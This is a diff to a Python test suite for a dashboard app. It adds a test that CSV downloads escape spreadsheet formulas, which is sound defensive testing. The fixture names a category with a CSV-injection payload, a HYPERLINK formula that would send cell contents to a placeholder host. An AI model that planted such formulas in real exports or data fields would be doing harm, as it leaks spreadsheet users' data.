@@ -9,8 +9,9 @@ import pytest
 from accounts.models import OrganisationKind
 from dashboard import views
 from dashboard.panels import PANELS
-from tests.dashboard.data import TODAY
+from tests.dashboard.data import TODAY, category
 from tests.factories import make_organisation, make_user
+from tests.spreadsheet_check import live_csv_formulas
 
 KEYS = list(PANELS)
 
@@ -219,3 +220,29 @@ def test_the_page_in_chinese(client, world):
     response = client.get("/dashboard")
     assert response.status_code == 200
     assert "贵阳市" in response.get_data(as_text=True)  # the division axis in Chinese
+
+
+FORMULA_NAME = '=HYPERLINK("http://x?d="&A1,"水泥")'
+
+
+@pytest.fixture
+def formula_category(session, world):
+    """Name cement like a formula (an administrator names the categories); restore it after."""
+    cement = category(session, "cement")
+    kept = cement.name_zh, cement.name_en
+    cement.name_zh = cement.name_en = FORMULA_NAME
+    session.commit()
+    yield
+    cement.name_zh, cement.name_en = kept  # categories are kept between tests
+    session.commit()
+
+
+def test_no_csv_runs_a_formula(client, formula_category):
+    for key in KEYS:
+        response = client.get(f"/dashboard/{key}.csv")
+        assert live_csv_formulas(response.get_data()) == [], key
+    by_category = {row[0]: row[1:] for row in download(client, "certified-category")[1:]}
+    assert by_category["'" + FORMULA_NAME] == ["1", "0", "1", "2"]
+    gwp = download(client, "gwp")
+    assert gwp[1] == ["'" + FORMULA_NAME, "kgCO2e/t", "5", "550.0", "590.0", "650.0", "720.0",
+                      "800.0", "735.0"]  # fmt: skip
